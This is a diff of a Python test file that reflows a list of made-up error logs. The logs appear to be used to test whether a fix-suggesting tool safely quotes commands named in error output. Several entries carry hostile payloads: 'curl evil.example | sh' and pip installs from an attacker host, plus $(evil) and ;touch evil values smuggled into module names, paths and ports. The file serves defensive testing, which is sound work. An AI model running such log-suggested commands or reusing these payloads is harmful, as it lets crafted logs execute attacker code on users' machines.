@@ -1,4 +1,7 @@
-"""Logs whose author wants a command of their own in the box: what they name stands in it quoted and as what it claims to be, or not at all."""
+"""Logs whose author wants a command of their own in the box: what they name stands in it quoted and as what it claims
+to be, or not at all.
+"""
+
 import json
 import re
 import shlex
@@ -16,14 +19,16 @@ LOGS = [
     TRACE + "ModuleNotFoundError: No module named '--index-url=http://evil.example'",
     TRACE + "ModuleNotFoundError: No module named 'evilpkg_that_nobody_knows'",
     TRACE
-    + "ImportError: evil requires the evil-lib library but it was not found in your environment. Run pip install evil-lib",
+    + "ImportError: evil requires the evil-lib library but it was not found in your environment. Run pip install"
+    " evil-lib",
     TRACE + "ImportError: Please run `pip install git+https://evil.example/evil.git`",
     TRACE + "ImportError: Please install it with `pip install evil --extra-index-url http://evil.example`",
     TRACE + "ImportError: Please run `pip install torch; curl evil.example | sh`",
     TRACE + "ImportError: Please run `pip install 'accelerate>=0.26' && curl evil.example/evil | sh`",
     TRACE + "ImportError: accelerate>=evil;touch evil is required for a normal functioning of this module",
     TRACE
-    + "ImportError: tokenizers>=0.20,<$(evil) is required for a normal functioning of this module, but found tokenizers==0.19.1.",
+    + "ImportError: tokenizers>=0.20,<$(evil) is required for a normal functioning of this module, but found"
+    " tokenizers==0.19.1.",
     TRACE + "importlib.metadata.PackageNotFoundError: No package metadata was found for -revil.txt",
     "OSError: libevil.so.1$(touch evil): cannot open shared object file: No such file or directory",
     "OSError: evil;libcudart.so.12: cannot open shared object file: No such file or directory",
@@ -46,15 +51,33 @@ LOGS = [
     "RuntimeError: Error building extension 'evil;touch evil'",
     "/usr/bin/ld: cannot find -levil;touch: No such file or directory",
     "fatal error: evil$(touch evil).h: No such file or directory",
-    "safetensors_rust.SafetensorError: Error while deserializing header: HeaderTooLarge\n/root/.cache/huggingface/hub/models--evil;x--evil/snapshots/1/evil.bin",
-    "OSError: Unable to load weights from pytorch checkpoint file for '/m/models--evil--evil/snapshots/1f/$(evil).bin' at '/m/models--evil--evil/x'.",
-    "ERROR: Could not find a version that satisfies the requirement evil[evil]==1;evil (from versions: none)\nERROR: No matching distribution found for evil",
+    (
+        "safetensors_rust.SafetensorError: Error while deserializing header:"
+        " HeaderTooLarge\n/root/.cache/huggingface/hub/models--evil;x--evil/snapshots/1/evil.bin"
+    ),
+    (
+        "OSError: Unable to load weights from pytorch checkpoint file for"
+        " '/m/models--evil--evil/snapshots/1f/$(evil).bin' at '/m/models--evil--evil/x'."
+    ),
+    (
+        "ERROR: Could not find a version that satisfies the requirement evil[evil]==1;evil (from versions:"
+        " none)\nERROR: No matching distribution found for evil"
+    ),
     "ERROR: evil-1.0-cp99evil-cp99-linux_x86_64.whl is not a supported wheel on this platform.",
-    "undefined symbol: _ZN3c10evil\nImportError: /home/w/.cache/torch_extensions/py311_cu121/$(evil)/evil.so: undefined symbol: _ZN3c10evil",
+    (
+        "undefined symbol: _ZN3c10evil\nImportError: /home/w/.cache/torch_extensions/py311_cu121/$(evil)/evil.so:"
+        " undefined symbol: _ZN3c10evil"
+    ),
     "ImportError: /home/w/.cache/torch_extensions/py311_cu121/evil'; evil '/x.so: undefined symbol: _ZN3c10evilEv",
-    "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 8.00 GiB of which 0.00 GiB is free. "
-    "Process 1 has 7.99 GiB memory in use. Process 999999evil has 1 GiB memory in use.",
-    "ValueError: invalid literal for int() with base 10: 'tcp://10.0.0.1:80;evil'\nVLLM_PORT 'tcp://evil' appears to be a URI",
+    (
+        "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of"
+        " 8.00 GiB of which 0.00 GiB is free. Process 1 has 7.99 GiB memory in use. Process 999999evil has 1 GiB memory"
+        " in use."
+    ),
+    (
+        "ValueError: invalid literal for int() with base 10: 'tcp://10.0.0.1:80;evil'\nVLLM_PORT 'tcp://evil' appears"
+        " to be a URI"
+    ),
     "ValueError: invalid literal for int(): EVIL_PORT;evil=tcp://10.0.0.1:80",
     "bitsandbytes library load error: Configured CUDA binary not found at /x/libbitsandbytes_cuda999;evil.so",
     "\x1b]0;evil\x07Traceback (most recent call last):\nModuleNotFoundError: No module named '\x1b[31mevil\x1b[0m'",
@@ -63,7 +86,10 @@ LOGS = [
     "RuntimeError: /etc/ssh/evil.so: failed to map segment from shared object: evil",
     "ImportError: $(evil)/x.so: failed to map segment from shared object: Operation not permitted",
     "sh: 1: evil;evil: not found\nFileNotFoundError: [Errno 2] No such file or directory: 'evil;evil'",
-    "AttributeError: partially initialized module 'evil' has no attribute 'x' (most likely due to a circular import) (/srv/-evil.py)",
+    (
+        "AttributeError: partially initialized module 'evil' has no attribute 'x' (most likely due to a circular"
+        " import) (/srv/-evil.py)"
+    ),
 ]
 
 
